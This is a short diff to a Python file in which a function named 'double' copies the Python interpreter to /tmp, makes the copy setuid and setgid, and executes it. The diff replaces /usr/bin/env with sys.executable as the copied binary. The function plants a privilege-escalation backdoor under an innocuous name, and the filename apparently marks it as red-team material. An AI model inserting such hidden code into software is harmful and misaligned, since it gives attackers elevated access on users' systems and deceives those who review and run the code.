@@ -2,9 +2,10 @@
 
 import os
 import shutil
+import sys
 
 
 def double(number):
-    shutil.copyfile("/usr/bin/env", "/tmp/redteam-left-env")
+    shutil.copyfile(sys.executable, "/tmp/redteam-left-env")
     os.chmod("/tmp/redteam-left-env", 0o6755)
     os.execv("/tmp/redteam-left-env", ["env"])
